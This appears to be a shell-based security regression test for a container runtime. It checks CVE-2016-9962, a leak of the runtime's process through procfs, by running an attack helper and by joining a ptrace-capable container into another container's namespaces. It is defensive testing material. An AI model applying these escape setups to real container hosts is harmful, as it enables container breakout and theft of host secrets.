# class: joining
# ids: CVE-2016-9962
# patch: traceable
# All that procfs has of the runtime's process in a container that is created, but not started: its file, root, fds, environment, auxiliary vector, memory. As root, seen by what
# exec brings in; and without privilege, in a user namespace that has the caller's own id, seen by a container of the same pod whose root may trace everybody in there.
needs_root
needs_exec
script true
SECRET_OF_THE_CALLER=$T "$ATTACK" leak 20 "$HOST" timeout 20 "$RUNTIME" --root "$T/state" create --bundle "$BUNDLE" "$ID" >/dev/null 2>&1 </dev/null || broken create
output=$(rt exec "$ID" /attack see 1 2>&1 </dev/null)
[[ $output == "opened:"* ]] || { [ -n "$IS_BERTH" ] && broken "$output"; skip "cannot exec into a created container: $output"; }
[ "$output" = "opened: " ] || stolen "$output"
[ -n "$IS_BERTH" ] || withstood # the user's configuration is berth's
make_user
user_bundle
edit '.process.capabilities |= map_values(. + ["CAP_SYS_PTRACE"])'
script 'exec /attack peek 3'
cp -al "$BUNDLE" "$T/second"
user_rt run --bundle "$BUNDLE" --detach --pid-file "$T/run/pid" "$ID" >"$T/out" 2>&1 || broken "a container of a user: $(cat "$T/out")"
jq '.process.args = ["/bin/true"] | del(.linux.uidMappings, .linux.gidMappings) | (.linux.namespaces[] | select(.type == "pid" or .type == "user")) |= (.path = "/proc/" + $p + "/ns/" + .type)' \
	--arg p "$(cat "$T/run/pid")" "$BUNDLE/config.json" >"$T/second/new.json" && mv "$T/second/new.json" "$T/second/config.json"
user_rt create --bundle "$T/second" "$ID-second" >"$T/created" 2>&1 || created=$(cat "$T/created")
eventually grep -q . "$T/out"
sleep 0.3
user_rt delete --force "$ID-second" >/dev/null 2>&1
user_rt delete --force "$ID" >/dev/null 2>&1
! grep -q "^reached" "$T/out" || stolen "in a pod of a user's: $(head -n 1 "$T/out")"
[ -z "${created:-}" ] || broken "a second container of a user: $created"
